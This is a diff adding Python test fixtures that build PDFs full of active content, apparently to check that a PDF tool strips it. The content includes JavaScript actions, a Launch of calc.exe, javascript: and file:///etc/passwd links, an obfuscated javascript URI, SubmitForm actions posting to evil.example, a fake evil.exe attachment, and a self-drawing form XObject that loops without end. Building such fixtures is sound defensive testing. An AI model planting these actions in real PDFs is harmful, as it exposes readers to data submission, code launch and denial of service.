@@ -357,3 +357,137 @@ def coloured_pages(*colours: tuple[float, float, float]) -> bytes:
         canvas.showPage()
     canvas.save()
     return out.getvalue()
+
+
+HOSTILE_GOOD_LINKS = ("https://example.com/terms", "mailto:legal@example.com")
+
+
+def hostile_pdf(note_appearance: bool = True) -> bytes:
+    """A tagged two-page PDF whose first page carries every kind of active content a page can
+    bring (extensions.md 12: what append, prepend and placing must not keep): page-open
+    JavaScript, Launch, javascript: and file: links, SubmitForm, GoToR, ImportData, a Named
+    action, an attached .exe, RichMedia, Screen, Sound and Movie annotations, an orphan widget,
+    a good link whose action chains JavaScript (/Next), associated files; and what it keeps: an
+    https link, a mailto link and a link to its page 2, each tagged (a Link element and its OBJR).
+    Its catalog has an /OpenAction, JavaScript and an embedded file in its names tree. Its pages
+    draw only shapes (no font): pdf-a takes them, unless its note has no appearance stream
+    (`note_appearance`), which PDF/A-3 wants of every annotation but links and popups."""
+    document = pikepdf.new()
+    for _ in range(2):
+        document.add_blank_page(page_size=A4)
+    first, second = document.pages
+    for page in (first, second):
+        page.obj.Contents = document.make_stream(b"/Artifact BMC 0.2 0.4 0.8 rg 50 50 200 100 re f EMC")
+    Name, Dictionary, Array, String = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array, pikepdf.String
+
+    def script(code: str) -> pikepdf.Dictionary:
+        return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))
+
+    evil = document.make_stream(b"MZ\x90\x00 not really a program", Type=Name.EmbeddedFile)
+    attached = Dictionary(Type=Name.Filespec, F=String("evil.exe"), UF=String("evil.exe"), EF=Dictionary(F=evil))
+    first.obj.AA = Dictionary(O=script("app.alert('page opened')"), C=script("app.alert('page closed')"))
+    first.obj.AF = Array([document.make_indirect(attached)])
+    # What its content draws carries some too: a form with an associated file and an action under
+    # a key of its own (what a placed page's objects reach is copied).
+    mark = document.make_stream(b"0 0.6 0 rg 0 0 10 10 re f", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 10, 10])
+    mark.AF = Array([document.make_indirect(attached)])
+    mark.Private = script("app.alert('in a form')")
+    first.obj.Resources = Dictionary(XObject=Dictionary(Mark=mark))
+    first.obj.Contents = document.make_stream(b"/Artifact BMC q /Mark Do Q EMC " + first.obj.Contents.read_bytes())
+
+    def annotation(subtype: str, y: float, **entries: object) -> pikepdf.Object:
+        box = Array([50, y, 250, y + 20])
+        return document.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name("/" + subtype), Rect=box, **entries))
+
+    def link(y: float, action: pikepdf.Dictionary) -> pikepdf.Object:
+        return annotation("Link", y, A=action, Border=Array([0, 0, 0]))
+
+    def uri(target: str) -> pikepdf.Dictionary:
+        return Dictionary(Type=Name.Action, S=Name.URI, URI=String(target))
+
+    hostile = [
+        link(700, Dictionary(Type=Name.Action, S=Name.Launch, F=String("calc.exe"))),
+        link(680, uri("javascript:app.alert(1)")),
+        link(660, uri("file:///etc/passwd")),
+        link(640, uri(" java\tscript:app.alert(2)")),
+        link(620, Dictionary(Type=Name.Action, S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))),
+        link(600, Dictionary(S=Name.ImportData, F=String("data.fdf"))),
+        link(580, Dictionary(S=Name.Named, N=Name.Print)),
+        link(560, Dictionary(S=Name.SubmitForm, F=String("https://evil.example/collect"))),
+        annotation("FileAttachment", 540, FS=attached, Name=Name.PushPin),
+        annotation("RichMedia", 520, RichMediaContent=Dictionary(Assets=Dictionary())),
+        annotation("Screen", 500, A=Dictionary(S=Name.Rendition, OP=0, JS=String("app.alert(3)"))),
+        annotation("Sound", 480, Sound=document.make_stream(b"\x00" * 8, R=8000)),
+        annotation("Movie", 460, Movie=Dictionary(F=String("movie.avi"))),
+        annotation("Text", 440, Contents=String("a note"), A=script("app.alert('note')")),
+    ]
+    if note_appearance:
+        look = document.make_stream(b"1 1 0 rg 0 0 20 20 re f", Type=Name.XObject, Subtype=Name.Form)
+        look.BBox = [0, 0, 20, 20]
+        hostile[-1].AP = Dictionary(N=look, D=look)
+    widget = annotation(
+        "Widget", 420, FT=Name.Btn, Ff=1 << 16, T=String("go"),
+        A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/form"), Flags=4),
+    )  # fmt: skip
+    chained = uri(HOSTILE_GOOD_LINKS[0])
+    chained.Next = script("app.alert('chained')")
+    good = [
+        link(300, chained),
+        link(280, uri(HOSTILE_GOOD_LINKS[1])),
+        annotation("Link", 260, Dest=Array([second.obj, Name.Fit]), Border=Array([0, 0, 0])),
+    ]
+    first.obj.Annots = Array([*hostile, widget, *good])
+    document.Root.AcroForm = Dictionary(Fields=Array([widget]))
+    document.Root.OpenAction = script("app.alert('document opened')")
+    scripts = Array([String("init"), document.make_indirect(script("app.alert('names tree')"))])
+    files = Array([String("evil.exe"), document.make_indirect(attached)])
+    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=scripts), EmbeddedFiles=Dictionary(Names=files))
+    # Tagged: a Document of Link elements (and an Annot for the note), each with its annotation's
+    # OBJR (the javascript: link's too, so that dropping it must drop its OBJR), and the parent
+    # tree that finds them.
+    root = document.make_indirect(Dictionary(Type=Name.StructTreeRoot))
+    top = document.make_indirect(Dictionary(Type=Name.StructElem, S=Name.Document, P=root, K=Array()))
+    nums = Array()
+    for key, annotated in enumerate([hostile[1], hostile[-1], *good]):
+        role = Name.Annot if annotated is hostile[-1] else Name.Link
+        element = document.make_indirect(Dictionary(Type=Name.StructElem, S=role, P=top, Pg=first.obj))
+        element.K = Array([Dictionary(Type=Name.OBJR, Obj=annotated, Pg=first.obj)])
+        element.Alt = String("a link")
+        annotated.StructParent = key
+        annotated.Contents = String("a link")
+        top.K.append(element)
+        nums.extend([key, element])
+    root.K = top
+    root.ParentTree = document.make_indirect(Dictionary(Nums=nums))
+    root.ParentTreeNextKey = len(nums) // 2
+    document.Root.StructTreeRoot = root
+    document.Root.MarkInfo = Dictionary(Marked=True)
+    out = io.BytesIO()
+    document.save(out)
+    return out.getvalue()
+
+
+def cyclic_form_pdf(draws_itself: bool = True) -> bytes:
+    """Issue 48's 850-byte PDF, as bytes: a page drawing a form XObject whose inline (direct)
+    /Resources names the form itself; `draws_itself`: its content draws it too (a loop with no
+    end), else it only names it (legal: a shared resource dictionary)."""
+    form = b"/Fm0 Do" if draws_itself else b"0 0 10 10 re f"
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] /Resources << /XObject << /Fm0 5 0 R >> >> "
+        b"/Contents 4 0 R >>",
+        b"<< /Length 7 >>\nstream\n/Fm0 Do\nendstream",
+        b"<< /Type /XObject /Subtype /Form /BBox [0 0 100 100] /Resources << /XObject << /Fm0 5 0 R >> >> "
+        b"/Length %d >>\nstream\n" % len(form) + form + b"\nendstream",
+    ]
+    out = bytearray(b"%PDF-1.7\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
+    table = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, table)
+    return bytes(out)
